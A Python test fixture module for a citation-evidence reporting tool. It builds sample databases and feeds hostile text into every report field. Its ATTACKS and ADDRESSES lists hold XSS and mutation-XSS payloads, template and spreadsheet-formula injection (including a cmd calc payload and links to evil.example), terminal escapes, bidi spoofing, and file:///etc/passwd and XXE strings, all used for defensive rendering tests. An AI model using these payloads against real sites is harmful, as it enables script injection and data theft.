"""What the tests of reports share: a small evidence folder, made row by row, and texts that
attack."""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from evidence.changes.altered import altered
from evidence.changes.redline import redline
from evidence.reports import FORMS
from evidence.reports.building import build
from evidence.reports.excerpts import Redlines
from evidence.reports.model import Report
from evidence.store import Store

NIGHTS = (
    "2026-01-05T06:00:00.000000Z",
    "2026-01-12T06:00:00.000000Z",
    "2026-01-19T06:00:00.000000Z",
)
SHA = "ab" * 32


@dataclass
class Sample:
    """A database that citations are put into."""

    store: Store
    folder: Path
    count: int = 0

    def source(self, identifier: str = "informe", **values: Any) -> None:
        row = {"id": identifier, "kind": "report", "location": f"{identifier}.pdf", "title": "Informe",
               "published": "2025-06-01", "language": "es", "added_at": NIGHTS[0]}  # fmt: skip
        version = {"id": f"v-{identifier}", "source_id": identifier, "sha256": SHA, "read_at": NIGHTS[0],
                   "media_type": "application/pdf", "bytes": 1, "citations": 1}  # fmt: skip
        self.insert("sources", {**row, **values})
        self.insert("source_versions", version)

    def runs(self) -> None:
        for number, night in enumerate(NIGHTS):
            self.insert("runs", {
                "id": f"run-{number}", "kind": "night", "state": "finished", "started_at": night,
                "ended_at": night, "due": 1, "options_json": "{}", "tool_version": "1", "rules_version": "2",
                "config_sha256": SHA})  # fmt: skip

    def cite(self, url: str, verdict: str | None = "missing", cause: str = "http-404", *,
             rule: str = "gone.http-404", facts: dict[str, Any] | None = None, certainty: str = "confirmed",
             status: int | None = 404, final_url: str | None = None, source: str = "informe",
             mementos: tuple[tuple[str, str, str], ...] = (), **citation: Any) -> str:  # fmt: skip
        """One citation, alive on the first night and ``verdict`` from then on; returns its id."""
        self.count += 1
        number = f"{self.count:04}"
        url_id = hashlib.sha256(url.encode("utf-8", "replace")).hexdigest()[:32]
        self.insert("urls", {"id": url_id, "url": url, "host": "www.example.org", "domain": "example.org",
                             "surt": url, "added_at": NIGHTS[0]})  # fmt: skip
        row = {"id": f"c{number}", "source_id": source, "url_id": url_id, "raw": url, "origin": "text",
               "marker": str(self.count), "note": f"Ministerio, Informe {self.count}: {url}.",
               "claim": f"El compromiso {self.count} se cumplió.", "heading": "Compromiso 1", "page": 3,
               "start": self.count, "first_version": f"v-{source}", "last_version": f"v-{source}"}  # fmt: skip
        self.insert("citations", {**row, **citation})
        for archive, address, at in mementos:
            self.insert("mementos", {"id": f"m-{address}", "url_id": url_id, "archive": archive,
                                     "memento_url": address, "captured_at": at, "state": "verified"})  # fmt: skip
        if verdict is None:
            return row["id"]
        first = {"rule": "alive.first-look", "facts": {"status": 200}}
        known = {"status": status, "since": "2026-01-05", "final_url": final_url}
        told = {"rule": rule, "facts": facts or known}
        for night in range(len(NIGHTS)):
            good = night == 0
            self.insert("captures", {
                "id": f"urn:uuid:{number}-{night}", "url": url, "captured_at": NIGHTS[night],
                "record_type": "response", "warc": "warc/x.warc.gz", "offset": night, "length": 10,
                "status": 200 if good else status or 200, "media_type": "text/html",
                "payload_sha256": SHA if good else "cd" * 32, "payload_bytes": 10, "block_sha256": SHA,
                "fidelity": "exact"})  # fmt: skip
            self.insert("checks", {
                "id": f"k{number}-{night}", "run_id": f"run-{night}", "url_id": url_id,
                "checked_at": NIGHTS[night], "duration_ms": 5, "observer": "us",
                "verdict": "alive" if good else verdict, "cause": "first-look" if good else cause,
                "reasons_json": json.dumps([first if good else told]),
                "at_most": "confirmed", "status": 200 if good else status,
                "final_url": final_url or url, "media_type": "text/html",
                "redirects_json": json.dumps([{"url": url, "status": 301}]) if final_url else None,
                "capture_id": f"urn:uuid:{number}-{night}",
                "baseline_id": None if good else f"urn:uuid:{number}-0"})  # fmt: skip
        self.insert("standings", {
            "url_id": url_id, "verdict": verdict, "cause": cause, "certainty": certainty, "since": NIGHTS[1],
            "last_look": NIGHTS[2], "last_good": NIGHTS[0], "looks": 2, "next_look": NIGHTS[2],
            "series_json": "[]", "baseline_id": f"urn:uuid:{number}-0", "check_id": f"k{number}-2"})  # fmt: skip
        return row["id"]

    def insert(self, table: str, row: dict[str, Any]) -> None:
        with self.store.transaction("test") as transaction:
            transaction.insert(table, row)

    def report(self, **options: Any) -> Report:
        return build(self.store, everything=True, **options)

    def render(self, form: str, **options: Any) -> bytes:
        return b"".join(FORMS[form](self.report(**options)))


def sample(folder: Path) -> Sample:
    """An empty sample with one source and three nights."""
    found = Sample(Store(folder / "evidence.db"), folder)
    found.source()
    found.runs()
    return found


def small(folder: Path) -> Sample:
    """One citation of each kind that the forms treat differently."""
    found = sample(folder)
    archived = (
        "wayback",
        "https://web.archive.org/web/20250701000000/https://www.example.org/a",
        "2025-07-01T00:00:00Z",
    )
    found.cite("https://www.example.org/a", mementos=(archived,))
    found.cite("https://www.example.org/b", certainty="suspected")
    found.cite("https://www.example.org/c", "moved", "redirect", rule="moved.same-text", status=200,
               final_url="https://www.example.org/nuevo/c")  # fmt: skip
    found.cite("https://www.example.org/d", "blocked", "waf", rule="blocked.forbidden", status=403)
    found.cite(
        "https://www.example.org/e", "alive", "identical", rule="alive.identical", status=200
    )
    found.cite("https://www.example.org/f", None)
    return found


def reworded(report: Report, old: str, new: str, *ends: str) -> Report:
    """The same report, as if the pages at the addresses with these ends had said ``old`` and said ``new`` now."""
    change = redline([old], [new])
    cited = [one for one in report.citations.cited if one.url.endswith(ends)]
    sentences = altered(change, old)
    vars(report)["redlines"] = Redlines(
        of={one.url_id: list(change) for one in cited},
        altered={one.url_id: sentences for one in cited if sentences},
        said={one.url_id: old for one in cited if not sentences},
        then={one.url_id: NIGHTS[0] for one in cited},
        cited=cited if sentences else [],
    )
    return report


ATTACKS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "</style><script>window.hit=1</script>",
    "</noscript><script>window.hit=1</script>",
    "<!--<script>window.hit=1</script>",
    "--><img src=x onerror=window.hit=1>",
    "<!-- <script>",
    "]]><script>window.hit=1</script>",
    '"><img src=x onerror=window.hit=1>',
    "' onmouseover='window.hit=1",
    '" autofocus onfocus="window.hit=1',
    "`${window.hit=1}`",
    "${window.hit=1}",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{status.__class__}",
    "$& $1 $` $'",
    "\\u003cscript\\u003e",
    "</textarea><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><button>x",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;",
    "<math><mtext></mtext><script>window.hit=1</script>",
    # mutation XSS, and forms that browsers learnt of late
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=window.hit=1>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.hit=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<template shadowrootmode=open><img src=https://evil.example/x onerror=window.hit=1></template>",
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>',
    "<link rel=preconnect href=https://evil.example><link rel=dns-prefetch href=//evil.example>",
    "<link rel=modulepreload href=https://evil.example/x.js><link rel=expect href='#x' blocking=render>",
    "<iframe credentialless srcdoc='<script>top.hit=1</script>'></iframe><fencedframe></fencedframe>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=window.hit=1>",
    "<button commandfor=x command=show-modal>x</button><dialog id=x oncommand=window.hit=1>",
    "<details open ontoggle=window.hit=1><video><source onerror=window.hit=1></video>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s><set onend=window.hit=1></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x'/></svg>",
    "<p style='animation:x' onanimationstart=window.hit=1>@keyframes x{}<img onscrollsnapchange=window.hit=1>",
    "<style>@import url(https://evil.example/x.css);@font-face{src:url(//evil.example/f)}</style>",
    "<p style='background:image-set(\"https://evil.example/i\" 1x)'>x</p>",
    "<a href='java&NewLine;script&colon;window.hit=1' ping=https://evil.example/p>x</a>",
    "<object data='data:text/html,<script>1</script>'></object><embed src=javascript:window.hit=1>",
    "<input type=hidden accesskey=x onclick=window.hit=1 oncontentvisibilityautostatechange=window.hit=1>",
    "<selectedcontent></selectedcontent><select><button><img src=x onerror=window.hit=1></button></select>",
    "<form><button formaction=javascript:window.hit=1 autofocus>x</button></form>",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "#REF!",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "\x00nul\x08\x7f",
    "\u202egpj.exe\u202c",
    "\u2066abc\u2069\u200f",
    "\u2028\u2029line",
    "[click](javascript:window.hit=1)",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "| a | b |\n|---|---|",
    "# heading\n\n- list",
    "```\n<script>window.hit=1</script>\n```",
    "]]>&xxe;<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "\ufffe\uffff",
    "__proto__",
    "constructor",
    "\x1a\x1f\n\n\n",
    "A" * 200_000,
)
"""Texts that a page, a report or an archive can hand us."""
ADDRESSES = (
    "javascript:window.hit=1", "JaVaScRiPt:window.hit=1//http://", "data:text/html,<script>window.hit=1</script>",
    "vbscript:x", "file:///etc/passwd", " javascript:window.hit=1", "http://a.example/\"onmouseover=\"window.hit=1",
    "https://a.example/'><script>window.hit=1</script>", "https://a.example/\u202egpj.exe", "//evil.example/x",
    "http://a.example/>)[x](javascript:window.hit=1)", "=http://a.example/",
)  # fmt: skip


def besieged(folder: Path) -> Sample:
    """Every text in every place where remote text ends up, and every address as a cited one."""
    found = sample(folder)
    for number, text in enumerate(ATTACKS):
        found.source(
            f"s{number}", title=text, location=text, tags_json=json.dumps(["ogp", text[:500]]),
            retired_at=NIGHTS[2] if number == 1 else None,
        )  # fmt: skip
        found.cite(
            f"https://a.example/{number}?{text[:500]}",
            claim=text, note=text, label=text, heading=text, marker=text[:500], raw=text[:500] or "x",
            source=f"s{number}", final_url=f"https://b.example/{text[:500]}",
            rule="soft-404.lexicon", facts={"status": 200, "words": text[:200]},
            mementos=((text[:90], f"https://web.example/{number}/{text[:200]}", "2025-01-01T00:00:00Z"),),
        )  # fmt: skip
    for address in ADDRESSES:
        found.cite(address, "moved", "redirect", rule="moved.same-text", status=200, final_url=address,
                   mementos=(("wayback", address, "2025-01-01T00:00:00Z"),))  # fmt: skip
    return found
